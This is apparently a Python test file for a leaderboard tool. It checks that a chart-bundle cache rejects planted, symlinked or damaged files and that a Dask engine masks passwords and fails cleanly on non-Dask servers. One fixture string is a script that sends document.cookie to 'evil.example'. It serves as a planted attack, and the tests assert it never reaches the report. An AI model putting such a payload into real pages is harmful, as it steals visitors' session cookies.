"""Issue 29, item 6: the chart-bundle cache cannot be planted or damaged, and the Dask engine
never echoes a password, never hangs on a server that is not Dask, never oversubscribes the
machine. Each case: a one-line error or the correct result (tests/pipelines/test_hostile_outputs.py holds
the outputs' and compare's cases)."""
from __future__ import annotations

import os
from pathlib import Path

import pytest

from leaderboard.cli import main
from tests.pipelines.test_hostile_outputs import _one_line_error, board  # noqa: F401 - a fixture

# --- the chart-bundle cache cannot be planted or damaged ----------------------------------------

FAKE = "window.vegaEmbed = function () {};\n" + "// the bundle's body\n" * 2000
EVIL = "window.vegaEmbed = function () { fetch('https://evil.example/' + document.cookie) };"


@pytest.fixture
def cache(tmp_path, monkeypatch):
    """An empty cache folder and a fast stand-in for vl-convert's build, counting its calls."""
    from leaderboard.report.vega import embed

    folder = tmp_path / "cache"
    monkeypatch.setenv("LEADERBOARD_CACHE_DIR", str(folder))
    calls = []
    monkeypatch.setattr(embed, "_build_bundle", lambda: calls.append(1) or FAKE)
    return folder, embed, calls


def _plant(path: Path, text: str) -> None:
    """``text`` and the hash an attacker would compute for it, as the cache records it."""
    from leaderboard.disk_cache import digest as _digest

    data = text.encode("utf-8")
    path.write_bytes(data)
    Path(str(path) + ".sha256").write_bytes(_digest(data).encode())


def test_the_cache_is_read_back_only_when_whole_and_recorded(cache):
    folder, embed, calls = cache
    assert embed._cached_bundle() == FAKE and calls == [1]
    path = embed._cache_file()
    assert embed._cached_bundle() == FAKE and calls == [1]        # read, not rebuilt
    path.write_bytes(FAKE.encode()[:1000])                        # truncated
    assert embed._cached_bundle() == FAKE and len(calls) == 2
    damaged = bytearray(FAKE.encode())
    damaged[50] ^= 1                                              # one bit flipped
    path.write_bytes(bytes(damaged))
    assert embed._cached_bundle() == FAKE and len(calls) == 3
    assert path.read_text(encoding="utf-8") == FAKE               # rewritten whole
    Path(str(path) + ".sha256").unlink()                          # no record: not trusted
    assert embed._cached_bundle() == FAKE and len(calls) == 4


def test_a_symlink_planted_in_the_cache_is_never_followed(cache, tmp_path):
    folder, embed, calls = cache
    embed._cached_bundle()
    path = embed._cache_file()
    evil = tmp_path / "evil.js"
    _plant(evil, EVIL)
    path.unlink()
    path.symlink_to(evil)
    assert embed._cached_bundle() == FAKE and len(calls) == 2     # not the attacker's script
    assert evil.read_text(encoding="utf-8") == EVIL               # nothing written through it
    assert not path.is_symlink() and path.read_text(encoding="utf-8") == FAKE
    victim = tmp_path / "victim.txt"                              # a partial file as a link
    victim.write_text("keep me", encoding="utf-8")
    os.chmod(victim, 0o644)
    for name in (f"{path.name}.{os.getpid()}.partial", f"{path.name}.sha256"):
        (folder / name).unlink(missing_ok=True)
        (folder / name).symlink_to(victim)
    path.write_text("damaged", encoding="utf-8")
    assert embed._cached_bundle() == FAKE
    assert victim.read_text(encoding="utf-8") == "keep me"
    assert oct(victim.stat().st_mode & 0o777) == oct(0o644)


def test_a_cache_folder_others_can_write_or_a_linked_folder_is_not_used(cache, tmp_path):
    folder, embed, calls = cache
    embed._cached_bundle()
    path = embed._cache_file()
    _plant(path, EVIL)                 # a whole, recorded file... in a folder others can write
    os.chmod(folder, 0o777)
    assert embed._cached_bundle() == FAKE and path.read_text(encoding="utf-8") == EVIL
    os.chmod(folder, 0o700)
    elsewhere = tmp_path / "elsewhere"
    folder.rename(elsewhere)
    folder.symlink_to(elsewhere)       # the folder itself a link
    assert embed._cached_bundle() == FAKE and (elsewhere / path.name).read_text() == EVIL


@pytest.mark.skipif(os.getuid() != 0, reason="giving a file to another user needs root")
def test_a_cache_file_owned_by_another_user_is_not_used(cache):
    folder, embed, calls = cache
    embed._cached_bundle()
    path = embed._cache_file()
    _plant(path, EVIL)
    os.chown(path, 65534, -1)
    assert embed._cached_bundle() == FAKE


def test_a_huge_sparse_file_or_a_fifo_in_the_cache_is_not_read(cache):
    import threading
    import time
    import tracemalloc

    folder, embed, calls = cache
    embed._cached_bundle()
    path = embed._cache_file()
    with open(path, "wb") as out:
        out.truncate(64 << 30)                                  # 64 GiB, sparse
    record = Path(str(path) + ".sha256")
    record.write_text(f"sha256 {'0' * 64} {64 << 30}\n", encoding="utf-8")
    tracemalloc.start()
    started = time.perf_counter()
    assert embed._cached_bundle() == FAKE
    elapsed = time.perf_counter() - started
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert elapsed < 5 and peak < 50 << 20
    path.unlink()
    os.mkfifo(path)
    outcome = []
    worker = threading.Thread(target=lambda: outcome.append(embed._cached_bundle()),
                              daemon=True)
    worker.start()
    worker.join(timeout=30)
    assert not worker.is_alive() and outcome == [FAKE]         # not blocked on the FIFO


def test_a_page_never_inlines_a_planted_bundle(tmp_path, monkeypatch):
    from leaderboard.report.vega import embed

    folder = tmp_path / "cache"
    monkeypatch.setenv("LEADERBOARD_CACHE_DIR", str(folder))
    embed.bundle.cache_clear()
    folder.mkdir(mode=0o700)
    evil = tmp_path / "evil.js"
    _plant(evil, EVIL)
    embed._cache_file().symlink_to(evil)
    board = tmp_path / "board.csv"   # any page inlines the bundle: four entries make one
    board.write_text("team,score\na,0.81\nb,0.80\nc,0.78\nd,0.75\n", encoding="utf-8")
    try:
        assert main(["analyze", str(board), "--metric", "accuracy", "--n-test", "500",
                     "--draws", "200", "--replicates", "200", "--quiet",
                     "-o", str(tmp_path / "r.html")]) == 0
    finally:
        embed.bundle.cache_clear()
    html = (tmp_path / "r.html").read_text(encoding="utf-8")
    assert "evil.example" not in html and "vegaEmbed" in html


# --- the Dask engine: no echoed password, no hang, no oversubscribed machine ------------------

class _Server:
    """A local TCP server on 127.0.0.1 that accepts connections and then stays silent, or
    answers like a web server (``first`` bytes sent on accept)."""

    def __init__(self, first: bytes = b""):
        import socket
        import threading

        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(8)
        self.address = f"tcp://127.0.0.1:{self.sock.getsockname()[1]}"
        self.held = []
        self.first = first
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self):
        while True:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                return
            self.held.append(conn)
            if self.first:
                conn.sendall(self.first)

    def close(self):
        self.sock.close()
        for conn in self.held:
            conn.close()


def _engine_error(**kwargs) -> tuple[str, float]:
    import time

    pytest.importorskip("distributed")
    from leaderboard.engine.dask import DaskEngine
    from leaderboard.errors import InputError

    started = time.perf_counter()
    with pytest.raises(InputError) as caught:
        DaskEngine(**kwargs)
    return str(caught.value), time.perf_counter() - started


@pytest.mark.parametrize("first, words", [
    (b"", "connected, but no Dask answer within 2 s"),
    (b"HTTP/1.1 400 Bad Request\r\nContent-Length: 0\r\n\r\n", "not a Dask scheduler"),
    (b"\x08" + b"\x00" * 7 + b"12345678", None),     # a Dask-shaped 16 bytes, then garbage
])
def test_a_server_that_is_not_dask_fails_in_bounded_time(first, words):
    server = _Server(first)
    try:
        message, elapsed = _engine_error(scheduler=server.address, timeout=2)
    finally:
        server.close()
    assert "\n" not in message and message.startswith(f"--scheduler {server.address}: ")
    assert words is None or words in message, message
    assert elapsed < 15, elapsed


def test_the_command_line_times_out_on_a_silent_scheduler(board, capsys, monkeypatch):
    """The command line gives up on a scheduler that accepts and never answers, with the
    engine's default time-out (10 s): it is checked here, then shortened to 1 s for the run
    (issue 27: the run waited the whole 10 s), so the message's "1 s" shows the command line
    took the engine's default."""
    import inspect
    import time

    pytest.importorskip("distributed")
    from leaderboard.engine.dask import DaskEngine

    assert inspect.signature(DaskEngine).parameters["timeout"].default == 10.0
    monkeypatch.setitem(DaskEngine.__init__.__kwdefaults__, "timeout", 1.0)
    subs = board / "subs"
    subs.mkdir()
    for name in ("base", "good"):
        (subs / f"{name}.csv").write_bytes((board / f"{name}.csv").read_bytes())
    server = _Server()
    started = time.perf_counter()
    try:
        code = main(["analyze", "--solution", str(board / "solution.csv"), "--submissions",
                     str(subs), "--metric", "auc", "--scheduler", server.address,
                     "--quiet", "-o", str(board / "r.html")])
    finally:
        server.close()
    assert code == 2 and time.perf_counter() - started < 31
    _one_line_error(capsys, "no Dask answer within 1 s")


def test_scheduler_credentials_are_never_echoed():
    message, _ = _engine_error(scheduler="tcp://alice:s3cret-pw@127.0.0.1:8786")
    assert "s3cret" not in message and "alice" not in message
    assert message.startswith("--scheduler tcp://***@127.0.0.1:8786: a Dask address takes no")


def test_workers_beyond_the_cores_or_memory_are_refused(capsys, monkeypatch):
    from leaderboard.engine import dask_checks

    message, elapsed = _engine_error(workers=1024)
    assert "--workers 1024: this machine has" in message and elapsed < 5
    cores = dask_checks.usable_cores()
    monkeypatch.setattr(dask_checks, "memory_bytes", lambda: 3 * dask_checks.WORKER_BYTES)
    message, _ = _engine_error(workers=min(cores, 3) + 1 if cores > 3 else 4)
    assert f"at most {min(cores, 3)} local workers" in message


